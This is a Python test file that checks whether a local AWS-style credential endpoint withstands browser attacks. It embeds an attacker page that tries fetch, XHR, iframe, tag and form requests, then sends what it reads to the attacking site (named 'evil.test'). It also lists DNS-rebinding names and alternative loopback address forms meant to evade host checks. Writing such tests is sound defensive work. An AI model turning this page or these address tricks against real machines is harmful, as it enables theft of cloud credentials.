"""Pages in a real browser that want the endpoint's credentials (security L8): by another
loopback port, by names that were made to lead here, by every form of the address."""

import http.server
import json
import os
import re
import subprocess
import threading
import unittest
import urllib.parse

import processes
from consumer import PYTHON, Consumer

WAIT = ("import os, sys; print(os.environ['AWS_CONTAINER_CREDENTIALS_FULL_URI'], "
        "os.environ['AWS_CONTAINER_AUTHORIZATION_TOKEN'], flush=True); sys.stdin.read()")

# Tries what a page can try, without the token and with it (which no page can know), and puts
# everything that it could read into the report.
PAGE = """<!doctype html><title>attack</title><body><script>
const targets = TARGETS, token = "TOKEN", report = [];
const sleep = (ms) => new Promise((done) => setTimeout(done, ms));
async function attempt(name, work) {
    try { report.push([name, String(await Promise.race([work(), sleep(3000)]))]); }
    catch (error) { report.push([name, "error"]); }
}
const headers = { Authorization: token };
async function all() {
    for (const url of targets) {
        for (const mode of ["cors", "no-cors", "same-origin"])
            for (const with_token of [false, true])
                await attempt(`fetch ${mode} ${with_token} ${url}`, async () => {
                    const reply = await fetch(url, { mode, credentials: "include",
                                                     headers: with_token ? headers : {} });
                    return `${reply.type} ${reply.status} ${await reply.text()}`;
                });
        await attempt(`xhr ${url}`, () => new Promise((done) => {
            const x = new XMLHttpRequest();
            x.onloadend = () => done(`${x.status} ${x.responseText}`);
            x.open("GET", url); x.setRequestHeader("Authorization", token); x.send();
        }));
        await attempt(`frame ${url}`, () => new Promise((done) => {
            const frame = document.createElement("iframe");
            frame.onload = () => { try { done(frame.contentDocument.body.innerText); }
                                   catch (error) { done("closed"); } };
            frame.src = url; document.body.append(frame);
        }));
        for (const tag of ["script", "img", "link"])
            await attempt(`${tag} ${url}`, () => new Promise((done) => {
                const element = document.createElement(tag);
                element.onload = () => done("loaded"); element.onerror = () => done("error");
                element.rel = "stylesheet"; element.src = element.href = url;
                document.body.append(element);
            }));
        await attempt(`form ${url}`, () => new Promise((done) => {
            const frame = document.createElement("iframe"); frame.name = "f" + Math.random();
            document.body.append(frame);
            const form = document.createElement("form");
            form.method = "post"; form.action = url; form.target = frame.name;
            document.body.append(form); form.submit(); setTimeout(() => done("sent"), 200);
        }));
    }
    await fetch("/report", { method: "POST", body: JSON.stringify(report) });
    document.title = "done";
}
all();
</script>"""


class Site(http.server.ThreadingHTTPServer):
    """The attacker's page, and where it tells what it got."""

    daemon_threads = True

    def __init__(self):
        super().__init__(("127.0.0.1", 0), _Visit)
        self.page, self.report = "", None
        self.told = threading.Event()
        threading.Thread(target=self.serve_forever, args=(0.1,), daemon=True).start()

    @property
    def port(self):
        return self.server_address[1]


class _Visit(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = self.server.page.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(204)
        self.end_headers()
        if self.path == "/report":        # a form of the attack's own may come here too
            self.server.report = json.loads(body)
            self.server.told.set()

    def log_message(self, format, *args):
        """Silent."""


class Attacks(Consumer):
    def setUp(self):
        super().setUp()
        self.program = self.world.start(self.world.client, "exec", "--server", "prod", "--",
                                        PYTHON, "-c", WAIT)
        self.url, self.token = self.program.popen.stdout.readline().decode().split()
        self.port = urllib.parse.urlsplit(self.url).port
        self.site = Site()
        self.addCleanup(self.site.server_close)
        self.addCleanup(self.site.shutdown)

    def visit(self, host, targets):
        """A browser of the person's opens the attacker's page under this name."""
        self.site.page = PAGE.replace("TARGETS", json.dumps(targets)).replace("TOKEN", self.token)
        self.site.told.clear()
        profile = os.path.join(self.world.home, "profile")
        command = ["/usr/bin/chromium", "--headless=new", "--no-sandbox", "--disable-gpu",
                   "--disable-dev-shm-usage", f"--user-data-dir={profile}", "--no-first-run",
                   "--disable-background-networking", "--disable-component-update",
                   "--no-proxy-server", "--host-resolver-rules=MAP *.test 127.0.0.1",
                   "--remote-debugging-port=0", f"http://{host}:{self.site.port}/"]
        browser = subprocess.Popen(processes.become(self.world.uid) + command,
                                   env={**self.world.env, "LC_ALL": "C"}, cwd=self.world.home,
                                   stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                   stderr=subprocess.DEVNULL, start_new_session=True)
        try:
            self.assertTrue(self.site.told.wait(120), "the page did not come to its end")
        finally:
            processes.end(browser.pid)
            browser.wait(20)
        return self.site.report

    def assert_nothing(self, report):
        self.assertGreater(len(report), 10)
        got = json.dumps(report)
        for forbidden in ("ASIA", "AccessKeyId", "SecretAccessKey", "Expiration"):
            self.assertNotIn(forbidden, got)
        for name, result in report:
            self.assertNotRegex(result, r"^(cors|basic|default) 200", name)

    def test_the_page_works_where_it_may(self):
        """Or what follows would prove nothing: it reads its own site."""
        own = f"http://127.0.0.1:{self.site.port}/x"
        report = dict(self.visit("127.0.0.1", [own]))
        self.assertRegex(report[f"fetch cors true {own}"], "^basic 200 <!doctype html>")

    def test_a_page_on_another_loopback_port(self):
        for host in ("127.0.0.1", "localhost"):
            self.assert_nothing(self.visit(host, [
                self.url, self.url.replace("127.0.0.1", "localhost")]))

    def test_a_rebound_name_and_every_form_of_the_address(self):
        """After rebinding, page and endpoint have one origin but for the port."""
        path = f":{self.port}/credentials"
        self.assert_nothing(self.visit("evil.test", [
            f"http://evil.test{path}", f"http://0.0.0.0{path}", f"http://[::1]{path}",
            f"http://127.1{path}", f"http://2130706433{path}",
            f"http://[::ffff:127.0.0.1]{path}", f"http://127.0.0.1.{path[0:]}"]))

    def test_a_rebound_name_on_the_endpoint_s_own_port(self):
        """The page is of the endpoint's own origin: the browser asks it at the top. A plain
        name is told by its Host alone: browsers send it no Sec-Fetch headers."""
        profile = os.path.join(self.world.home, "profile")
        for host in ("evil.test", "127.0.0.1", "localhost"):
            done = subprocess.run(
                processes.become(self.world.uid) +
                ["/usr/bin/chromium", "--headless=new", "--no-sandbox", "--disable-gpu",
                 "--disable-dev-shm-usage", f"--user-data-dir={profile}", "--no-first-run",
                 "--no-proxy-server", "--host-resolver-rules=MAP *.test 127.0.0.1", "--dump-dom",
                 f"http://{host}:{self.port}/credentials"],
                env={**self.world.env, "LC_ALL": "C"}, cwd=self.world.home, capture_output=True,
                timeout=120, check=False)
            page = done.stdout.decode()
            self.assertRegex(page, "the Host header is not this address" if host == "evil.test"
                             else "no page and no proxy gets credentials here", done)
            self.assertIsNone(re.search("ASIA|SecretAccessKey", page))


if __name__ == "__main__":
    unittest.main()
